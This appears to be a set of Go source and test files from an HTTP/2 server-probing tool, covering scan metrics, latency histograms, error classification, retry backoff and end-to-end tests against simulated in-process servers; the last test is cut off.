	retries   *metrics.Counter
	attempts  *metrics.Counter
	inFlight  *metrics.Gauge

	failedByKind [numErrorKinds]*metrics.Counter

	traceEvents  *metrics.Counter
	traceDropped *metrics.Counter

	latency *metrics.Histogram

	// mirror, when non-nil, is a registry-backed twin receiving every bump.
	mirror *counters
}

func newCounters() *counters {
	c := &counters{
		attempted:    metrics.NewCounter(),
		succeeded:    metrics.NewCounter(),
		failed:       metrics.NewCounter(),
		canceled:     metrics.NewCounter(),
		retries:      metrics.NewCounter(),
		attempts:     metrics.NewCounter(),
		inFlight:     metrics.NewGauge(),
		traceEvents:  metrics.NewCounter(),
		traceDropped: metrics.NewCounter(),
		latency:      metrics.NewHistogram(int64(time.Millisecond), latencyBuckets),
	}
	for k := range c.failedByKind {
		c.failedByKind[k] = metrics.NewCounter()
	}
	return c
}

// registryCounters builds the registered twin in r. Names are stable API
// (the README's metric catalog documents them); registries get-or-create, so
// successive runs mirroring into one registry accumulate.
func registryCounters(r *metrics.Registry) *counters {
	c := &counters{
		attempted: r.Counter("h2_scan_targets_total", "targets finalized (all outcomes)"),
		succeeded: r.Counter(metrics.Label("h2_scan_outcomes_total", "outcome", "ok"), "targets by final outcome"),
		failed:    r.Counter(metrics.Label("h2_scan_outcomes_total", "outcome", "failed"), "targets by final outcome"),
		canceled:  r.Counter(metrics.Label("h2_scan_outcomes_total", "outcome", "canceled"), "targets by final outcome"),
		retries:   r.Counter("h2_scan_retries_total", "retry attempts beyond each target's first"),
		attempts:  r.Counter("h2_scan_attempts_total", "probe attempts, first tries included"),
		inFlight:  r.Gauge("h2_scan_in_flight", "probe attempts executing right now"),
		traceEvents: r.Counter("h2_scan_trace_events_total",
			"trace events emitted by per-target tracers (ring overwrites included)"),
		traceDropped: r.Counter("h2_scan_trace_dropped_total",
			"trace events lost to per-target ring overflow"),
		latency: r.Histogram("h2_scan_target_latency_ns",
			"per-target wall time (ns, bucketed per millisecond)",
			int64(time.Millisecond), latencyBuckets),
	}
	for k := range c.failedByKind {
		c.failedByKind[k] = r.Counter(
			metrics.Label("h2_scan_failures_total", "kind", ErrorKind(k).String()),
			"failed targets by classified error kind")
	}
	return c
}

// latencyBucket maps a duration to its histogram bucket; it delegates to the
// shared bucketing rule in internal/metrics.
func latencyBucket(d time.Duration) int {
	return metrics.BucketOf(int64(d), int64(time.Millisecond), latencyBuckets)
}

// observeLatency records one completed target's elapsed time.
func (c *counters) observeLatency(d time.Duration) {
	for s := c; s != nil; s = s.mirror {
		s.latency.Observe(int64(d))
	}
}

// recordOutcome applies one finalized record to the outcome counters.
func (c *counters) recordOutcome(rec Record) {
	for s := c; s != nil; s = s.mirror {
		s.attempted.Inc()
		switch rec.Outcome {
		case OutcomeSuccess:
			s.succeeded.Inc()
		case OutcomeFailed:
			s.failed.Inc()
			if int(rec.Kind) < numErrorKinds {
				s.failedByKind[rec.Kind].Inc()
			}
		case OutcomeCanceled:
			s.canceled.Inc()
		}
	}
}

// addTrace folds a finished target tracer's ring counters in.
func (c *counters) addTrace(tr *trace.Tracer) {
	for s := c; s != nil; s = s.mirror {
		s.traceEvents.Add(int64(tr.Emitted()))
		s.traceDropped.Add(int64(tr.Dropped()))
	}
}

// addRetry counts one retry beyond a target's first attempt.
func (c *counters) addRetry() {
	for s := c; s != nil; s = s.mirror {
		s.retries.Inc()
	}
}

// beginAttempt/endAttempt bracket one probe attempt.
func (c *counters) beginAttempt() {
	for s := c; s != nil; s = s.mirror {
		s.attempts.Inc()
		s.inFlight.Add(1)
	}
}

func (c *counters) endAttempt() {
	for s := c; s != nil; s = s.mirror {
		s.inFlight.Add(-1)
	}
}

// LatencyStats summarizes the per-target latency histogram. Quantiles are
// approximate: each falls at the geometric midpoint of its power-of-two
// bucket.
type LatencyStats struct {
	Count int64         `json:"count"`
	Min   time.Duration `json:"min"`
	Mean  time.Duration `json:"mean"`
	P50   time.Duration `json:"p50"`
	P90   time.Duration `json:"p90"`
	P99   time.Duration `json:"p99"`
	Max   time.Duration `json:"max"`
}

// Stats is a point-in-time snapshot of a scan's counters. After Run returns
// it satisfies Attempted == Succeeded + Failed + Canceled.
type Stats struct {
	// Attempted counts targets the engine has finalized a record for.
	Attempted int64 `json:"attempted"`
	// Succeeded, Failed, and Canceled partition Attempted by outcome.
	Succeeded int64 `json:"succeeded"`
	Failed    int64 `json:"failed"`
	Canceled  int64 `json:"canceled"`
	// Retries counts retry attempts beyond each target's first.
	Retries int64 `json:"retries"`
	// Attempts counts every probe attempt, first tries included.
	Attempts int64 `json:"attempts"`
	// InFlight is the number of attempts executing right now.
	InFlight int64 `json:"inFlight"`
	// FailedByKind histograms Failed by classified error kind.
	FailedByKind map[string]int64 `json:"failedByKind,omitempty"`
	// TraceEvents and TraceDropped aggregate the per-target tracers'
	// emit and ring-overflow counters (zero when tracing is off; drops
	// are counted here so overflow is never silent).
	TraceEvents  int64 `json:"traceEvents,omitempty"`
	TraceDropped int64 `json:"traceDropped,omitempty"`
	// Latency summarizes per-target wall time.
	Latency LatencyStats `json:"latency"`
}

// Snapshot renders the counters as a Stats value.
func (c *counters) Snapshot() Stats {
	s := Stats{
		Attempted: c.attempted.Value(),
		Succeeded: c.succeeded.Value(),
		Failed:    c.failed.Value(),
		Canceled:  c.canceled.Value(),
		Retries:   c.retries.Value(),
		Attempts:  c.attempts.Value(),
		InFlight:  c.inFlight.Value(),

		TraceEvents:  c.traceEvents.Value(),
		TraceDropped: c.traceDropped.Value(),
	}
	for k := 0; k < numErrorKinds; k++ {
		if n := c.failedByKind[k].Value(); n > 0 {
			if s.FailedByKind == nil {
				s.FailedByKind = make(map[string]int64)
			}
			s.FailedByKind[ErrorKind(k).String()] = n
		}
	}
	s.Latency = latencyStatsOf(c.latency.Snapshot())
	return s
}

// latencyStatsOf condenses a histogram snapshot into the persisted summary.
// Bucket midpoints can land outside the observed range; every quantile is
// clamped into [Min, Max] so the summary never contradicts itself.
func latencyStatsOf(h metrics.HistogramSnapshot) LatencyStats {
	if h.Count == 0 {
		return LatencyStats{}
	}
	ls := LatencyStats{
		Count: h.Count,
		Min:   time.Duration(h.Min),
		Mean:  time.Duration(h.Mean()),
		Max:   time.Duration(h.Max),
	}
	for _, q := range []struct {
		dst *time.Duration
		q   float64
	}{{&ls.P50, 0.50}, {&ls.P90, 0.90}, {&ls.P99, 0.99}} {
		v := time.Duration(h.Quantile(q.q))
		if v < ls.Min {
			v = ls.Min
		}
		if v > ls.Max {
			v = ls.Max
		}
		*q.dst = v
	}
	return ls
}

// Consistent reports whether the outcome partition adds up; it holds
// whenever no targets are mid-flight (always, after Run returns).
func (s Stats) Consistent() bool {
	return s.Attempted == s.Succeeded+s.Failed+s.Canceled
}

// String renders the snapshot as a one-line progress report.
func (s Stats) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "scan: %d done (ok %d, fail %d, canceled %d)",
		s.Attempted, s.Succeeded, s.Failed, s.Canceled)
	if s.Retries > 0 {
		fmt.Fprintf(&b, ", %d retries", s.Retries)
	}
	if s.InFlight > 0 {
		fmt.Fprintf(&b, ", %d in flight", s.InFlight)
	}
	if len(s.FailedByKind) > 0 {
		kinds := make([]string, 0, len(s.FailedByKind))
		for k := 0; k < numErrorKinds; k++ {
			name := ErrorKind(k).String()
			if n, ok := s.FailedByKind[name]; ok {
				kinds = append(kinds, fmt.Sprintf("%s %d", name, n))
			}
		}
		fmt.Fprintf(&b, " [%s]", strings.Join(kinds, ", "))
	}
	if s.Latency.Count > 0 {
		fmt.Fprintf(&b, ", latency p50 %v p99 %v",
			s.Latency.P50.Round(time.Millisecond), s.Latency.P99.Round(time.Millisecond))
	}
	if s.TraceEvents > 0 {
		fmt.Fprintf(&b, ", trace %d events", s.TraceEvents)
		if s.TraceDropped > 0 {
			fmt.Fprintf(&b, " (%d dropped)", s.TraceDropped)
		}
	}
	return b.String()
}
