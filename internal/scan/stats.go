package scan

import (
	"fmt"
	"math"
	"math/bits"
	"strings"
	"sync/atomic"
	"time"
)

// latencyBuckets is the histogram resolution: bucket i covers target
// latencies in [2^(i-1), 2^i) milliseconds, with bucket 0 for sub-1ms.
const latencyBuckets = 32

// counters is the engine's live, lock-free instrumentation. Workers bump it
// from many goroutines; Snapshot renders a consistent-enough view at any
// moment and an exactly consistent one once the run has drained.
type counters struct {
	attempted atomic.Int64
	succeeded atomic.Int64
	failed    atomic.Int64
	canceled  atomic.Int64
	retries   atomic.Int64
	attempts  atomic.Int64
	inFlight  atomic.Int64

	failedByKind [numErrorKinds]atomic.Int64

	traceEvents  atomic.Int64
	traceDropped atomic.Int64

	latCount  atomic.Int64
	latSumNS  atomic.Int64
	latMinNS  atomic.Int64
	latMaxNS  atomic.Int64
	latBucket [latencyBuckets]atomic.Int64
}

func newCounters() *counters {
	c := &counters{}
	c.latMinNS.Store(math.MaxInt64)
	return c
}

func latencyBucket(d time.Duration) int {
	ms := uint64(d / time.Millisecond)
	b := bits.Len64(ms)
	if b >= latencyBuckets {
		b = latencyBuckets - 1
	}
	return b
}

// observeLatency records one completed target's elapsed time.
func (c *counters) observeLatency(d time.Duration) {
	if d < 0 {
		d = 0
	}
	ns := int64(d)
	c.latCount.Add(1)
	c.latSumNS.Add(ns)
	for {
		cur := c.latMinNS.Load()
		if ns >= cur || c.latMinNS.CompareAndSwap(cur, ns) {
			break
		}
	}
	for {
		cur := c.latMaxNS.Load()
		if ns <= cur || c.latMaxNS.CompareAndSwap(cur, ns) {
			break
		}
	}
	c.latBucket[latencyBucket(d)].Add(1)
}

// LatencyStats summarizes the per-target latency histogram. Quantiles are
// approximate: each falls at the geometric midpoint of its power-of-two
// bucket.
type LatencyStats struct {
	Count int64         `json:"count"`
	Min   time.Duration `json:"min"`
	Mean  time.Duration `json:"mean"`
	P50   time.Duration `json:"p50"`
	P90   time.Duration `json:"p90"`
	P99   time.Duration `json:"p99"`
	Max   time.Duration `json:"max"`
}

// Stats is a point-in-time snapshot of a scan's counters. After Run returns
// it satisfies Attempted == Succeeded + Failed + Canceled.
type Stats struct {
	// Attempted counts targets the engine has finalized a record for.
	Attempted int64 `json:"attempted"`
	// Succeeded, Failed, and Canceled partition Attempted by outcome.
	Succeeded int64 `json:"succeeded"`
	Failed    int64 `json:"failed"`
	Canceled  int64 `json:"canceled"`
	// Retries counts retry attempts beyond each target's first.
	Retries int64 `json:"retries"`
	// Attempts counts every probe attempt, first tries included.
	Attempts int64 `json:"attempts"`
	// InFlight is the number of attempts executing right now.
	InFlight int64 `json:"inFlight"`
	// FailedByKind histograms Failed by classified error kind.
	FailedByKind map[string]int64 `json:"failedByKind,omitempty"`
	// TraceEvents and TraceDropped aggregate the per-target tracers'
	// emit and ring-overflow counters (zero when tracing is off; drops
	// are counted here so overflow is never silent).
	TraceEvents  int64 `json:"traceEvents,omitempty"`
	TraceDropped int64 `json:"traceDropped,omitempty"`
	// Latency summarizes per-target wall time.
	Latency LatencyStats `json:"latency"`
}

// Snapshot renders the counters as a Stats value.
func (c *counters) Snapshot() Stats {
	s := Stats{
		Attempted: c.attempted.Load(),
		Succeeded: c.succeeded.Load(),
		Failed:    c.failed.Load(),
		Canceled:  c.canceled.Load(),
		Retries:   c.retries.Load(),
		Attempts:  c.attempts.Load(),
		InFlight:  c.inFlight.Load(),

		TraceEvents:  c.traceEvents.Load(),
		TraceDropped: c.traceDropped.Load(),
	}
	for k := 0; k < numErrorKinds; k++ {
		if n := c.failedByKind[k].Load(); n > 0 {
			if s.FailedByKind == nil {
				s.FailedByKind = make(map[string]int64)
			}
			s.FailedByKind[ErrorKind(k).String()] = n
		}
	}
	s.Latency = c.latencySnapshot()
	return s
}

func (c *counters) latencySnapshot() LatencyStats {
	n := c.latCount.Load()
	if n == 0 {
		return LatencyStats{}
	}
	ls := LatencyStats{
		Count: n,
		Min:   time.Duration(c.latMinNS.Load()),
		Mean:  time.Duration(c.latSumNS.Load() / n),
		Max:   time.Duration(c.latMaxNS.Load()),
	}
	var counts [latencyBuckets]int64
	var total int64
	for i := range counts {
		counts[i] = c.latBucket[i].Load()
		total += counts[i]
	}
	// Bucket midpoints can land outside the observed range; clamp every
	// quantile into [Min, Max] so the summary never contradicts itself.
	for _, q := range []struct {
		dst *time.Duration
		q   float64
	}{{&ls.P50, 0.50}, {&ls.P90, 0.90}, {&ls.P99, 0.99}} {
		v := bucketQuantile(counts[:], total, q.q)
		if v < ls.Min {
			v = ls.Min
		}
		if v > ls.Max {
			v = ls.Max
		}
		*q.dst = v
	}
	return ls
}

// bucketQuantile locates quantile q in the power-of-two histogram.
func bucketQuantile(counts []int64, total int64, q float64) time.Duration {
	if total == 0 {
		return 0
	}
	rank := int64(math.Ceil(q * float64(total)))
	if rank < 1 {
		rank = 1
	}
	var seen int64
	last := time.Duration(0)
	for i, n := range counts {
		if n == 0 {
			continue
		}
		if i == 0 {
			last = 500 * time.Microsecond
		} else {
			// Geometric midpoint of [2^(i-1), 2^i) milliseconds.
			mid := math.Sqrt(math.Pow(2, float64(i-1)) * math.Pow(2, float64(i)))
			last = time.Duration(mid * float64(time.Millisecond))
		}
		seen += n
		if seen >= rank {
			return last
		}
	}
	return last
}

// Consistent reports whether the outcome partition adds up; it holds
// whenever no targets are mid-flight (always, after Run returns).
func (s Stats) Consistent() bool {
	return s.Attempted == s.Succeeded+s.Failed+s.Canceled
}

// String renders the snapshot as a one-line progress report.
func (s Stats) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "scan: %d done (ok %d, fail %d, canceled %d)",
		s.Attempted, s.Succeeded, s.Failed, s.Canceled)
	if s.Retries > 0 {
		fmt.Fprintf(&b, ", %d retries", s.Retries)
	}
	if s.InFlight > 0 {
		fmt.Fprintf(&b, ", %d in flight", s.InFlight)
	}
	if len(s.FailedByKind) > 0 {
		kinds := make([]string, 0, len(s.FailedByKind))
		for k := 0; k < numErrorKinds; k++ {
			name := ErrorKind(k).String()
			if n, ok := s.FailedByKind[name]; ok {
				kinds = append(kinds, fmt.Sprintf("%s %d", name, n))
			}
		}
		fmt.Fprintf(&b, " [%s]", strings.Join(kinds, ", "))
	}
	if s.Latency.Count > 0 {
		fmt.Fprintf(&b, ", latency p50 %v p99 %v",
			s.Latency.P50.Round(time.Millisecond), s.Latency.P99.Round(time.Millisecond))
	}
	if s.TraceEvents > 0 {
		fmt.Fprintf(&b, ", trace %d events", s.TraceEvents)
		if s.TraceDropped > 0 {
			fmt.Fprintf(&b, " (%d dropped)", s.TraceDropped)
		}
	}
	return b.String()
}
