package scan

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"syscall"
	"testing"

	"h2scope/internal/frame"
	"h2scope/internal/h2conn"
	"h2scope/internal/hpack"
)

// fakeTimeoutErr implements net.Error with Timeout() == true, the shape a
// net.Dialer deadline failure takes.
type fakeTimeoutErr struct{}

func (fakeTimeoutErr) Error() string   { return "i/o timeout" }
func (fakeTimeoutErr) Timeout() bool   { return true }
func (fakeTimeoutErr) Temporary() bool { return true }

func TestClassify(t *testing.T) {
	cases := []struct {
		name string
		err  error
		want ErrorKind
	}{
		{"nil", nil, KindNone},
		{"explicit kind wins", WithKind(KindTLS, errors.New("pinned")), KindTLS},
		{"explicit kind wrapped", fmt.Errorf("outer: %w", WithKind(KindProtocol, errors.New("x"))), KindProtocol},
		{"context canceled", context.Canceled, KindCanceled},
		{"context canceled wrapped", fmt.Errorf("scan: %w", context.Canceled), KindCanceled},
		{"context deadline", context.DeadlineExceeded, KindTimeout},
		{"h2conn timeout", h2conn.ErrTimeout, KindTimeout},
		{"h2conn timeout wrapped", fmt.Errorf("settings: %w", h2conn.ErrTimeout), KindTimeout},
		{"net timeout", fakeTimeoutErr{}, KindTimeout},
		{"frame conn error", frame.ConnError{Code: frame.ErrCodeProtocol, Reason: "x"}, KindProtocol},
		{"frame stream error", frame.StreamError{StreamID: 1, Code: frame.ErrCodeCancel, Reason: "x"}, KindProtocol},
		{"hpack decoding error", hpack.DecodingError{Err: errors.New("bad varint")}, KindProtocol},
		{"frame too large", frame.ErrFrameTooLarge, KindProtocol},
		{"conn closed", h2conn.ErrConnClosed, KindProtocol},
		{"conn closed wrapped", fmt.Errorf("probe: %w", h2conn.ErrConnClosed), KindProtocol},
		{"op error dial", &net.OpError{Op: "dial", Net: "tcp", Err: syscall.ECONNREFUSED}, KindDial},
		{"dns error", &net.DNSError{Err: "no such host", Name: "example.invalid"}, KindDial},
		{"econnrefused", fmt.Errorf("dial: %w", syscall.ECONNREFUSED), KindDial},
		{"econnreset", fmt.Errorf("read: %w", syscall.ECONNRESET), KindDial},
		{"epipe", syscall.EPIPE, KindDial},
		{"net closed", net.ErrClosed, KindDial},
		{"closed pipe", io.ErrClosedPipe, KindDial},
		{"eof", io.EOF, KindDial},
		{"unexpected eof", io.ErrUnexpectedEOF, KindDial},
		{"mystery", errors.New("the server is haunted"), KindOther},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := Classify(tc.err); got != tc.want {
				t.Errorf("Classify(%v) = %v, want %v", tc.err, got, tc.want)
			}
		})
	}
}

func TestErrorKindTransient(t *testing.T) {
	transient := map[ErrorKind]bool{
		KindNone:     false,
		KindDial:     true,
		KindTLS:      false,
		KindProtocol: false,
		KindTimeout:  true,
		KindCanceled: false,
		KindOther:    false,
	}
	for kind, want := range transient {
		if got := kind.Transient(); got != want {
			t.Errorf("%v.Transient() = %v, want %v", kind, got, want)
		}
	}
}

func TestErrorKindString(t *testing.T) {
	want := map[ErrorKind]string{
		KindNone:     "none",
		KindDial:     "dial",
		KindTLS:      "tls",
		KindProtocol: "protocol",
		KindTimeout:  "timeout",
		KindCanceled: "canceled",
		KindOther:    "other",
	}
	if len(want) != numErrorKinds {
		t.Fatalf("test covers %d kinds, package defines %d", len(want), numErrorKinds)
	}
	for kind, name := range want {
		if got := kind.String(); got != name {
			t.Errorf("%d.String() = %q, want %q", int(kind), got, name)
		}
	}
}

func TestKindErrorUnwrap(t *testing.T) {
	inner := syscall.ECONNREFUSED
	err := WithKind(KindOther, fmt.Errorf("wrapped: %w", inner))
	if !errors.Is(err, inner) {
		t.Error("WithKind hides the wrapped chain from errors.Is")
	}
	// The explicit kind must still beat what the chain would classify as.
	if got := Classify(err); got != KindOther {
		t.Errorf("Classify = %v, want explicit KindOther", got)
	}
}
