package scan

import (
	"math/rand"
	"testing"
	"time"
)

func TestBackoffDelayWithoutJitter(t *testing.T) {
	cases := []struct {
		name  string
		b     Backoff
		retry int
		want  time.Duration
	}{
		{"defaults first retry", Backoff{Jitter: -1}, 0, 100 * time.Millisecond},
		{"defaults second retry", Backoff{Jitter: -1}, 1, 200 * time.Millisecond},
		{"defaults third retry", Backoff{Jitter: -1}, 2, 400 * time.Millisecond},
		{"defaults capped", Backoff{Jitter: -1}, 20, 5 * time.Second},
		{"custom base", Backoff{Base: time.Second, Jitter: -1}, 0, time.Second},
		{"custom factor", Backoff{Base: time.Second, Factor: 3, Max: time.Minute, Jitter: -1}, 2, 9 * time.Second},
		{"custom cap", Backoff{Base: time.Second, Factor: 10, Max: 4 * time.Second, Jitter: -1}, 5, 4 * time.Second},
		{"factor below one coerced to 2", Backoff{Base: time.Second, Factor: 0.5, Max: time.Minute, Jitter: -1}, 1, 2 * time.Second},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := tc.b.Delay(tc.retry, nil); got != tc.want {
				t.Errorf("Delay(%d) = %v, want %v", tc.retry, got, tc.want)
			}
		})
	}
}

// TestBackoffZeroValueJitters pins the documented default: the zero value
// jitters (0.5), so fleets do not retry in lockstep unless a caller
// explicitly disables jitter with a negative value.
func TestBackoffZeroValueJitters(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	var b Backoff
	seen := make(map[time.Duration]bool)
	for i := 0; i < 100; i++ {
		d := b.Delay(0, rng)
		if d < 50*time.Millisecond || d > 100*time.Millisecond {
			t.Fatalf("zero-value Delay(0) = %v, want within [50ms, 100ms]", d)
		}
		seen[d] = true
	}
	if len(seen) < 2 {
		t.Error("zero-value Backoff produced no jitter variation")
	}
}

func TestBackoffJitterBounds(t *testing.T) {
	b := Backoff{Base: 100 * time.Millisecond, Max: 5 * time.Second, Factor: 2, Jitter: 0.5}
	rng := rand.New(rand.NewSource(1))
	for retry := 0; retry < 8; retry++ {
		full := Backoff{Base: b.Base, Max: b.Max, Factor: b.Factor, Jitter: -1}.Delay(retry, nil)
		lo := time.Duration(float64(full) * (1 - b.Jitter))
		seen := make(map[time.Duration]bool)
		for i := 0; i < 200; i++ {
			d := b.Delay(retry, rng)
			if d < lo || d > full {
				t.Fatalf("retry %d: Delay = %v outside [%v, %v]", retry, d, lo, full)
			}
			seen[d] = true
		}
		if len(seen) < 2 {
			t.Errorf("retry %d: jitter produced no variation across 200 draws", retry)
		}
	}
}

func TestBackoffJitterDeterministicPerSeed(t *testing.T) {
	b := Backoff{} // all defaults, including 0.5 jitter
	schedule := func(seed int64) []time.Duration {
		rng := rand.New(rand.NewSource(seed))
		out := make([]time.Duration, 6)
		for i := range out {
			out[i] = b.Delay(i, rng)
		}
		return out
	}
	a, b1, c := schedule(7), schedule(7), schedule(8)
	for i := range a {
		if a[i] != b1[i] {
			t.Fatalf("same seed diverged at retry %d: %v vs %v", i, a[i], b1[i])
		}
	}
	differs := false
	for i := range a {
		if a[i] != c[i] {
			differs = true
		}
	}
	if !differs {
		t.Error("different seeds produced identical schedules")
	}
}

func TestBackoffDelayFloor(t *testing.T) {
	b := Backoff{Base: 1, Max: 1, Factor: 2, Jitter: 1}
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 100; i++ {
		if d := b.Delay(0, rng); d < 1 {
			t.Fatalf("Delay returned %v, want >= 1ns", d)
		}
	}
}
