// End-to-end tests: the scan engine driving the real probe battery against a
// mixed in-process fleet — healthy servers, a stalling endpoint that accepts
// connections but never speaks HTTP/2, and a port that refuses outright.
package scan_test

import (
	"context"
	"net"
	"sync"
	"syscall"
	"testing"
	"time"

	"h2scope/internal/core"
	"h2scope/internal/netsim"
	"h2scope/internal/scan"
	"h2scope/internal/server"
)

const fleetDomain = "fleet.example"

// fleetTarget is one endpoint of the e2e fleet: a name for assertions plus
// the dialer the battery should use to reach it.
type fleetTarget struct {
	name string
	dial core.Dialer
}

// startHealthy runs a full profile-driven HTTP/2 server on an in-process
// listener.
func startHealthy(t *testing.T, p server.Profile) core.Dialer {
	t.Helper()
	srv := server.New(p, server.DefaultSite(fleetDomain))
	l := netsim.NewListener(fleetDomain)
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() {
		srv.Close()
		_ = l.Close()
	})
	return core.DialerFunc(l.Dial)
}

// startStalling accepts connections and reads forever without ever writing a
// byte: the half-open tarpit shape the wild web serves at scale.
func startStalling(t *testing.T) core.Dialer {
	t.Helper()
	l := netsim.NewListener("tarpit.example")
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func(c net.Conn) {
				defer func() { _ = c.Close() }()
				buf := make([]byte, 4096)
				for {
					if _, err := c.Read(buf); err != nil {
						return
					}
				}
			}(c)
		}
	}()
	t.Cleanup(func() { _ = l.Close() })
	return core.DialerFunc(l.Dial)
}

// refusingDialer fails every dial the way a closed port does.
func refusingDialer() core.Dialer {
	return core.DialerFunc(func() (net.Conn, error) {
		return nil, &net.OpError{Op: "dial", Net: "netsim", Err: syscall.ECONNREFUSED}
	})
}

// fleetProbe runs the full Section III battery against one fleet target.
func fleetProbe(ctx context.Context, tg scan.Target) (any, error) {
	ft := tg.Meta.(*fleetTarget)
	cfg := core.DefaultConfig(fleetDomain)
	cfg.Timeout = 150 * time.Millisecond
	cfg.QuietWindow = 10 * time.Millisecond
	report, err := core.NewProber(ft.dial, cfg).RunContext(ctx)
	if report == nil {
		return nil, err
	}
	return report, err
}

// TestScanMixedFleet is the engine's acceptance test: a fleet where some
// targets work, one stalls, and one refuses. The run must complete with
// typed partial records for the failures, retries only where the failure is
// transient, and stats that account for every target.
func TestScanMixedFleet(t *testing.T) {
	fleet := []*fleetTarget{
		{name: "healthy-nginx", dial: startHealthy(t, server.NginxProfile())},
		{name: "healthy-h2o", dial: startHealthy(t, server.H2OProfile())},
		{name: "stalling", dial: startStalling(t)},
		{name: "refusing", dial: refusingDialer()},
	}
	targets := make([]scan.Target, len(fleet))
	for i, ft := range fleet {
		targets[i] = scan.Target{Key: ft.name, Meta: ft}
	}

	res, err := scan.Run(context.Background(), targets, fleetProbe, scan.Options{
		Parallelism: len(fleet),
		Timeout:     5 * time.Second, // generous per-attempt budget; probes time out internally
		Retries:     1,
		Backoff:     scan.Backoff{Base: 5 * time.Millisecond, Max: 20 * time.Millisecond, Jitter: -1},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != len(fleet) {
		t.Fatalf("got %d records, want %d", len(res.Records), len(fleet))
	}

	byName := make(map[string]scan.Record, len(fleet))
	for _, rec := range res.Records {
		byName[rec.Target.Key] = rec
	}
	for _, name := range []string{"healthy-nginx", "healthy-h2o"} {
		rec := byName[name]
		if rec.Outcome != scan.OutcomeSuccess || rec.Attempts != 1 {
			t.Errorf("%s: record = %+v, want first-try success", name, rec)
			continue
		}
		report, ok := rec.Value.(*core.Report)
		if !ok || report.Settings == nil || !report.Settings.GotHeaders {
			t.Errorf("%s: success record carries no usable report: %+v", name, rec.Value)
		}
	}
	if rec := byName["stalling"]; rec.Outcome != scan.OutcomeFailed ||
		rec.Kind != scan.KindTimeout || rec.Attempts != 2 {
		t.Errorf("stalling: record = %+v, want timeout failure after 2 attempts", rec)
	}
	if rec := byName["refusing"]; rec.Outcome != scan.OutcomeFailed ||
		rec.Kind != scan.KindDial || rec.Attempts != 2 {
		t.Errorf("refusing: record = %+v, want dial failure after 2 attempts", rec)
	}

	s := res.Stats
	if s.Attempted != 4 || s.Succeeded != 2 || s.Failed != 2 || s.Canceled != 0 {
		t.Errorf("stats partition = %+v, want 4 = 2 ok + 2 failed", s)
	}
	if !s.Consistent() {
		t.Errorf("stats inconsistent: %+v", s)
	}
	if s.Retries != 2 || s.Attempts != 6 {
		t.Errorf("stats = %+v, want 2 retries across 6 attempts", s)
	}
	if s.FailedByKind["timeout"] != 1 || s.FailedByKind["dial"] != 1 {
		t.Errorf("FailedByKind = %v, want one timeout and one dial", s.FailedByKind)
	}
	if s.Latency.Count != 4 {
		t.Errorf("latency count = %d, want 4", s.Latency.Count)
	}
}

// TestScanCancellationDrainsQuickly cancels a scan of stalling targets
// mid-flight: Run must return well within one attempt deadline, every
// record must be flushed through OnRecord, and the stats partition must
// still hold.
func TestScanCancellationDrainsQuickly(t *testing.T) {
	stall := startStalling(t)
	const n = 6
	targets := make([]scan.Target, n)
	for i := range targets {
		targets[i] = scan.Target{Key: "tarpit", Meta: &fleetTarget{name: "tarpit", dial: stall}}
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var (
		mu      sync.Mutex
		flushed []scan.Record
	)
	start := time.Now()
	res, err := scan.Run(ctx, targets, fleetProbe, scan.Options{
		Parallelism: 1,
		Timeout:     10 * time.Second,
		OnRecord: func(rec scan.Record) {
			mu.Lock()
			flushed = append(flushed, rec)
			mu.Unlock()
			cancel() // cancel as soon as the first record lands
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	if elapsed := time.Since(start); elapsed > 8*time.Second {
		t.Fatalf("canceled scan drained in %v, want well under one 10s attempt deadline", elapsed)
	}
	if len(res.Records) != n {
		t.Fatalf("got %d records, want %d", len(res.Records), n)
	}
	mu.Lock()
	nflushed := len(flushed)
	mu.Unlock()
	if nflushed != n {
		t.Errorf("OnRecord flushed %d records, want all %d", nflushed, n)
	}
	s := res.Stats
	if s.Attempted != n || !s.Consistent() {
		t.Errorf("stats = %+v, want %d attempted and a consistent partition", s, n)
	}
	if s.Canceled == 0 {
		t.Errorf("stats = %+v, want at least one canceled target", s)
	}
	for i, rec := range res.Records {
		if rec.Outcome == 0 {
			t.Errorf("record %d was never finalized: %+v", i, rec)
		}
	}
}
