package scan

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"h2scope/internal/frame"
)

// noJitter makes retry schedules exact so tests can assert the sleeps the
// engine requested from the fake clock.
var noJitter = Backoff{Base: 100 * time.Millisecond, Factor: 2, Max: 5 * time.Second, Jitter: -1}

// TestRunLeavesNoGoroutines pins the goroleak sweep's verdict on the scan
// engine empirically: after a canceled run over stalling probes — the worst
// case for the worker pool, the progress reporter, and the per-attempt
// watchdog goroutines — the goroutine count must return to its baseline.
func TestRunLeavesNoGoroutines(t *testing.T) {
	base := runtime.NumGoroutine()

	targets := make([]Target, 8)
	for i := range targets {
		targets[i] = Target{Key: fmt.Sprintf("site-%02d", i)}
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	probe := func(ctx context.Context, _ Target) (any, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	}
	time.AfterFunc(50*time.Millisecond, cancel)
	res, err := Run(ctx, targets, probe, Options{Parallelism: 4, Timeout: 30 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Records) != len(targets) {
		t.Fatalf("got %d records, want %d", len(res.Records), len(targets))
	}

	waitForGoroutineBaseline(t, base)
}

// waitForGoroutineBaseline polls until the goroutine count drops back to
// base (plus slack for runtime helpers), failing with the live count if it
// never does.
func waitForGoroutineBaseline(t *testing.T, base int) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for {
		n := runtime.NumGoroutine()
		if n <= base+2 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("goroutines did not drain: %d live, baseline %d", n, base)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestRunNilProbe(t *testing.T) {
